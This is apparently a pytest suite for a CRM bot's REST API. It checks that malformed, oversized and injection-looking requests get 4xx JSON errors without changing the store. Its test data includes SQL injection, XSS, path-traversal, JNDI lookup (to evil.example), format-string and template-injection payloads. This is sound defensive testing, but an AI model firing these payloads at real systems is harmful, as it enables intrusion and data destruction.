"""Hostile and broken input to the REST API: every bad request gets a 4xx with a JSON reason,
never a 500, and leaves the store exactly as it was. Text that merely looks dangerous in a valid
field (a name) is data: it is stored and returned literally.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import quote

import pytest
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import select

from bot.server import create_app
from bot.settings import load_settings
from crm_store import Store
from crm_store.models import Account, Contact, Opportunity, User
from tests.org import Org, snapshot

AUTH = {"Authorization": "Bearer test-token"}
V1 = "/api/v1"
JSON = {"Content-Type": "application/json"}


@pytest.fixture
async def api(store: Store, org: Org) -> AsyncIterator[TestClient]:
    client = TestClient(TestServer(create_app(store, load_settings(dealbot_api_token="test-token"))))
    await client.start_server()
    try:
        yield client
    finally:
        await client.close()


def deal(**changes: Any) -> dict[str, Any]:
    return {"name": "Robust Deal", "account_external_id": "A-acme", "amount": "1000", "currency": "USD",
            "stage": "Proposal", "owner_email": "rep.a@org.test", **changes}


GOOD = {"users": {"name": "Good User"}, "accounts": {"name": "Good Account"},
        "contacts": {"name": "Good Contact", "account_external_id": "A-acme"}, "opportunities": deal()}
KEYS = {"users": "good@org.test", "accounts": "A-good", "contacts": "C-good", "opportunities": "O-good"}
KEY_FIELD = {"users": "email", "accounts": "external_id", "contacts": "external_id", "opportunities": "external_id"}


async def send(client: TestClient, method: str, path: str, data: Any = None,
               headers: dict[str, str] | None = None) -> tuple[int, Any]:
    async with client.request(method, path, data=data, headers={**AUTH, **(headers or {})}) as response:
        text = await response.text()
        assert response.content_type == "application/json", (response.status, text[:200])
        return response.status, json.loads(text)


async def assert_refused(client: TestClient, store: Store, method: str, path: str, data: Any = None,
                         headers: dict[str, str] | None = None, status: int | tuple[int, ...] = (400, 422)) -> Any:
    before = await snapshot(store)
    got, answer = await send(client, method, path, data, headers)
    allowed = (status,) if isinstance(status, int) else status
    assert got in allowed, (got, answer)
    assert isinstance(answer, dict) and isinstance(answer.get("error"), str) and answer["error"], answer
    assert await snapshot(store) == before
    return answer


# -- malformed bodies --------------------------------------------------------------------------

MALFORMED = {
    "truncated": b'{"name": ',
    "single quotes": b"{'name': 'x'}",
    "trailing comma": b'{"name": "x",}',
    "trailing garbage": b'{"name": "x"} {"name": "y"}',
    "empty": b"",
    "not utf-8": b'{"name": "\xff\xfe"}',
    "utf-16 bom": '{"name": "x"}'.encode("utf-16"),
    "deep nesting": b"[" * 100_000 + b"]" * 100_000,
    "5000-digit number": b'{"name": "x", "amount": ' + b"9" * 5000 + b"}",
    "bare word": b"hello",
}


@pytest.mark.parametrize("body", list(MALFORMED.values()), ids=list(MALFORMED))
async def test_malformed_json_is_400(api: TestClient, store: Store, body: bytes) -> None:
    for kind in GOOD:
        answer = await assert_refused(api, store, "PUT", f"{V1}/{kind}/{KEYS[kind]}", body, JSON, status=400)
        assert answer["error"].startswith("malformed JSON")
        await assert_refused(api, store, "POST", f"{V1}/{kind}/bulk", body, JSON, status=400)


@pytest.mark.parametrize("content_type", [None, "text/plain", "application/x-www-form-urlencoded", "text/json",
                                          "application/jsonx", "multipart/form-data; boundary=x"])
async def test_a_body_that_is_not_declared_json_is_415(api: TestClient, store: Store, content_type: str | None) -> None:
    headers = {"Content-Type": content_type} if content_type else {}
    for path, body in ((f"{V1}/accounts/A-good", GOOD["accounts"]), (f"{V1}/accounts/bulk", {"items": []})):
        method = "POST" if path.endswith("bulk") else "PUT"
        answer = await assert_refused(api, store, method, path, json.dumps(body).encode(), headers, status=415)
        assert "Content-Type: application/json" in answer["error"]


async def test_json_with_a_charset_is_fine(api: TestClient, store: Store) -> None:
    status, answer = await send(api, "PUT", f"{V1}/accounts/A-good", json.dumps(GOOD["accounts"]).encode(),
                                {"Content-Type": "application/json; charset=utf-8"})
    assert status == 201, answer


# -- wrong shapes and types --------------------------------------------------------------------

WRONG_TYPES = [
    ("opportunities", deal(amount="lots"), "amount"),
    ("opportunities", deal(amount=[1000]), "amount"),
    ("opportunities", deal(amount="1e400"), "amount"),
    ("opportunities", deal(amount="NaN"), "amount"),
    ("opportunities", deal(close_date="31/12/2026"), "close_date"),
    ("opportunities", deal(close_date=20261231), "close_date"),
    ("opportunities", deal(probability="high"), "probability"),
    ("opportunities", deal(probability=10**30), "probability"),
    ("opportunities", deal(team_emails="se@org.test"), "team_emails"),
    ("opportunities", deal(team_emails=["x@org.test"] * 101), "team_emails"),
    ("opportunities", deal(status=True), "status"),
    ("opportunities", deal(name=123), "name"),
    ("opportunities", deal(name=None), "name"),
    ("opportunities", deal(name="x" * 301), "name"),
    ("opportunities", deal(currency="US'; --"), "currency"),
    ("opportunities", deal(source_updated_at="31/12/2026 10:00"), "source_updated_at"),
    ("users", {"name": ["Ann"]}, "name"),
    ("users", {"name": "Ann", "role": 1}, "role"),
    ("users", {"name": "Ann", "manager_email": "boss@org.test'; DROP TABLE users;--"}, "manager_email"),
    ("users", {"name": "Ann", "slack_user_id": "U" * 33}, "slack_user_id"),
    ("accounts", {"name": {"first": "x"}}, "name"),
    ("accounts", {"name": "X", "owner_email": "<script>@x"}, "owner_email"),
    ("contacts", {"name": "X", "account_external_id": "A acme"}, "account_external_id"),
    ("contacts", {"name": "X", "account_external_id": "A-acme", "phone": 5551234}, "phone"),
    ("accounts", {"name": "X", "Name": "x"}, "Name"),
    ("accounts", {"name": "X", "__proto__": {"admin": True}}, "__proto__"),
    ("contacts", {"name": "X", "account_external_id": "A-acme", "account_id": 1}, "account_id"),
    ("accounts", {"name": "Nul\x00Name"}, "name"),
    ("contacts", {"name": "X", "account_external_id": "A-acme", "title": "a\x00b"}, "title"),
]


@pytest.mark.parametrize(("kind", "body", "field"), WRONG_TYPES,
                         ids=[f"{k}-{f}-{i}" for i, (k, _, f) in enumerate(WRONG_TYPES)])
async def test_wrong_types_and_unknown_fields_are_422_naming_the_field(
    api: TestClient, store: Store, kind: str, body: dict[str, Any], field: str
) -> None:
    answer = await assert_refused(api, store, "PUT", f"{V1}/{kind}/{KEYS[kind]}", json.dumps(body).encode(), JSON,
                                  status=422)
    fields = [d["field"] for d in answer.get("details", [])] or [answer.get("field")]
    assert any(f == field or f.startswith(f"{field}.") for f in fields), answer
    # The same item in a bulk gets a per-item error naming the field; nothing is written.
    before = await snapshot(store)
    item = {KEY_FIELD[kind]: KEYS[kind], **body}
    status, answer = await send(api, "POST", f"{V1}/{kind}/bulk", json.dumps({"items": [item]}).encode(), JSON)
    assert status == 200
    [result] = answer["results"]
    assert result["status"] == "error" and result["error"]["message"]
    assert result["error"]["field"] == field or result["error"]["field"].startswith(f"{field}.")
    assert await snapshot(store) == before


@pytest.mark.parametrize("body", [b"[]", b'"a string"', b"42", b"null", b"true", b"[{\"name\": \"x\"}]"])
async def test_a_put_body_that_is_not_an_object_is_422(api: TestClient, store: Store, body: bytes) -> None:
    answer = await assert_refused(api, store, "PUT", f"{V1}/accounts/A-good", body, JSON, status=422)
    assert "object" in answer["error"]


@pytest.mark.parametrize("body", [{"items": {"a": 1}}, {"items": "x"}, {"items": None}, {"items": 7}, {},
                                  {"item": []}, [], [{"external_id": "A-x", "name": "X"}], "items", None])
async def test_bulk_items_must_be_a_list(api: TestClient, store: Store, body: Any) -> None:
    answer = await assert_refused(api, store, "POST", f"{V1}/accounts/bulk", json.dumps(body).encode(), JSON,
                                  status=422)
    assert "items" in answer["error"]


async def test_bulk_of_more_than_5000_items_is_413(api: TestClient, store: Store) -> None:
    items = [{"external_id": f"A-many-{i}", "name": f"Many {i}"} for i in range(5001)]
    answer = await assert_refused(api, store, "POST", f"{V1}/accounts/bulk", json.dumps({"items": items}).encode(),
                                  JSON, status=413)
    assert "5000" in answer["error"]


async def test_bulk_items_that_are_not_objects_get_per_item_errors(api: TestClient, store: Store) -> None:
    before = await snapshot(store)
    items: list[Any] = [None, 1, "A-x", [], {"external_id": None, "name": "X"}, {"external_id": ["A-x"], "name": "X"}]
    status, answer = await send(api, "POST", f"{V1}/accounts/bulk", json.dumps({"items": items}).encode(), JSON)
    assert status == 200
    assert [(r["status"], r["error"]["field"]) for r in answer["results"]] == [("error", "external_id")] * len(items)
    assert await snapshot(store) == before


@pytest.mark.parametrize("size_mb", [10])
@pytest.mark.parametrize("kind_path", ["accounts/A-good", "accounts/bulk"])
async def test_a_10_mb_body_is_413_with_a_reason(api: TestClient, store: Store, size_mb: int, kind_path: str) -> None:
    padding = "x" * (size_mb * 1024 * 1024)
    body = json.dumps({"name": padding} if "bulk" not in kind_path
                      else {"items": [{"external_id": "A-big", "name": padding}]}).encode()
    method = "POST" if "bulk" in kind_path else "PUT"
    answer = await assert_refused(api, store, method, f"{V1}/{kind_path}", body, JSON, status=413)
    assert "too large" in answer["error"]


async def test_a_10_mb_chunked_body_without_length_is_413(api: TestClient, store: Store) -> None:
    async def chunks() -> AsyncIterator[bytes]:
        yield b'{"name": "'
        for _ in range(10):
            yield b"x" * (1024 * 1024)
        yield b'"}'

    answer = await assert_refused(api, store, "PUT", f"{V1}/accounts/A-good", chunks(), JSON, status=413)
    assert "too large" in answer["error"]


# -- injection-looking keys, parameters and headers ----------------------------------------------

EVIL_KEYS = [
    "x'; DROP TABLE accounts;--",
    "1 OR 1=1",
    "<script>alert(1)</script>",
    "<!channel> hi",
    "../../etc/passwd",
    "A-acme\x00",
    "\x00",
    "a" * 129,
    "line\nbreak",
    "tab\there",
]


@pytest.mark.parametrize("key", EVIL_KEYS, ids=[repr(k[:20]) for k in EVIL_KEYS])
async def test_injection_looking_keys_are_refused(api: TestClient, store: Store, key: str) -> None:
    for kind in ("accounts", "contacts", "opportunities"):
        path = f"{V1}/{kind}/{quote(key, safe='')}"
        answer = await assert_refused(api, store, "PUT", path, json.dumps(GOOD[kind]).encode(), JSON,
                                      status=(404, 422))
        if "field" in answer:
            assert answer["field"] == "external_id"
        # In a bulk the item gets an error naming its key field; the good item beside it is applied.
        items = [{"external_id": key, **GOOD[kind]}, {"external_id": KEYS[kind], **GOOD[kind]}]
        status, answer = await send(api, "POST", f"{V1}/{kind}/bulk", json.dumps({"items": items}).encode(), JSON)
        assert status == 200
        assert answer["results"][0]["status"] == "error" and answer["results"][0]["error"]["field"] == "external_id"
        assert answer["results"][1]["status"] == "created"


@pytest.mark.parametrize("key", ["x'; DROP TABLE users;--@org.test", "<script>@org.test", "a@b", "nobody",
                                 "rep.a@org.test\x00", "a b@org.test"])
async def test_bad_user_keys_are_refused(api: TestClient, store: Store, key: str) -> None:
    answer = await assert_refused(api, store, "PUT", f"{V1}/users/{quote(key, safe='')}",
                                  json.dumps({"name": "X"}).encode(), JSON, status=(404, 422))
    assert answer.get("field", "email") == "email"


@pytest.mark.parametrize("key", EVIL_KEYS, ids=[repr(k[:20]) for k in EVIL_KEYS])
async def test_reads_and_erasures_with_evil_keys_are_404(api: TestClient, store: Store, key: str) -> None:
    encoded = quote(key, safe="")
    for method, path in (("GET", f"opportunities/{encoded}"), ("GET", f"opportunities/{encoded}/timeline"),
                         ("GET", f"opportunities/{encoded}/timeline?format=csv"), ("DELETE", f"contacts/{encoded}"),
                         ("DELETE", f"users/{encoded}")):
        await assert_refused(api, store, method, f"{V1}/{path}", status=404)


@pytest.mark.parametrize("query", ["limit=1;DROP TABLE timeline_entries", "before=1 OR 1=1", "limit=-1",
                                   "before=%00", "limit=1e3", "before=9223372036854775808", "limit=" + "9" * 5000])
async def test_evil_timeline_parameters_are_422(api: TestClient, store: Store, query: str) -> None:
    await assert_refused(api, store, "GET", f"{V1}/opportunities/O-acme_renewal/timeline?{query}", status=422)


@pytest.mark.parametrize("who", ["' OR '1'='1", "admin@org.test' --", "<script>", "%", "_", "*"])
async def test_evil_acting_users_are_403(api: TestClient, store: Store, who: str) -> None:
    for path in ("opportunities/O-acme_renewal", "opportunities/O-acme_renewal/timeline", "search?q=acme"):
        await assert_refused(api, store, "GET", f"{V1}/{path}", headers={"X-Dealbot-User": who}, status=403)


@pytest.mark.parametrize("q", ["'; DROP TABLE accounts;--", "%", "_", "\" OR 1=1 --", "<script>alert(1)</script>",
                               "<!channel>", "\x00acme", "🚀" * 50])
async def test_evil_search_text_is_just_text(api: TestClient, store: Store, q: str) -> None:
    before = await snapshot(store)
    status, answer = await send(api, "GET", f"{V1}/search?q={quote(q, safe='')}")
    assert status == 200  # a fuzzy search for odd text may match something; it is only ever read
    assert all(set(item) == {"type", "external_id", "name", "score"} for item in answer["items"])
    assert await snapshot(store) == before


@pytest.mark.parametrize(("method", "path"), [("PATCH", "accounts/A-acme"), ("POST", "accounts/A-acme"),
                                              ("GET", "accounts/bulk"), ("PUT", "search"), ("TRACE", "openapi.json")])
async def test_wrong_methods_are_405_with_a_reason(api: TestClient, store: Store, method: str, path: str) -> None:
    await assert_refused(api, store, method, f"{V1}/{path}", status=(404, 405))


# -- dangerous-looking text in a valid name is data ------------------------------------------------

LITERAL_NAMES = [
    "Robert'); DROP TABLE accounts;--",
    "x' OR '1'='1",
    "<script>alert('owned')</script>",
    "<!channel> *Bold* & <@U123ABC> `code` <https://evil.example|click>",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x {0} {{7*7}}",
    "東京 Trading 🚀 Ünïcødé",
    "Ω\u202eevil\u202c",
]


@pytest.mark.parametrize("name", LITERAL_NAMES, ids=[repr(n[:16]) for n in LITERAL_NAMES])
async def test_injection_looking_names_are_stored_and_returned_literally(
    api: TestClient, store: Store, name: str
) -> None:
    counts = await store.counts()
    for kind, key, body in (
        ("users", "odd@org.test", {"name": name}),
        ("accounts", "A-odd", {"name": name, "industry": name[:200]}),
        ("contacts", "C-odd", {"name": name, "title": name[:200], "account_external_id": "A-odd"}),
        ("opportunities", "O-odd", deal(name=name, stage=name[:64], account_external_id="A-odd")),
    ):
        status, answer = await send(api, "PUT", f"{V1}/{kind}/{key}", json.dumps(body).encode(), JSON)
        assert (status, answer["status"]) == (201, "created"), answer
    async with store.session() as s:
        assert (await s.execute(select(User.name).where(User.email == "odd@org.test"))).scalar_one() == name
        account = (await s.execute(select(Account).where(Account.external_id == "A-odd"))).scalar_one()
        contact = (await s.execute(select(Contact).where(Contact.external_id == "C-odd"))).scalar_one()
        opp = (await s.execute(select(Opportunity).where(Opportunity.external_id == "O-odd"))).scalar_one()
    assert (account.name, account.industry) == (name, name[:200])
    assert (contact.name, contact.title) == (name, name[:200])
    assert (opp.name, opp.stage) == (name, name[:64])
    status, got = await send(api, "GET", f"{V1}/opportunities/O-odd")
    assert (got["name"], got["stage"], got["account"]["name"]) == (name, name[:64], name)
    # Every table is still there and only the four new rows (plus audit) were added.
    after = await store.counts()
    assert {t: after[t] - counts[t] for t in ("users", "accounts", "contacts", "opportunities")} == dict.fromkeys(
        ("users", "accounts", "contacts", "opportunities"), 1)
    # Sending it again is recognised as the same data.
    status, answer = await send(api, "PUT", f"{V1}/accounts/A-odd",
                                json.dumps({"name": name, "industry": name[:200]}).encode(), JSON)
    assert answer["status"] == "unchanged"


async def test_a_name_found_by_search_comes_back_literally(api: TestClient, store: Store) -> None:
    name = "<!channel> Acme'; DROP TABLE accounts;-- <script>x</script> GmbH"
    await send(api, "PUT", f"{V1}/accounts/A-lit", json.dumps({"name": name}).encode(), JSON)
    status, answer = await send(api, "GET", f"{V1}/search?q=channel acme drop table")
    assert status == 200
    assert name in [i["name"] for i in answer["items"] if i["external_id"] == "A-lit"]
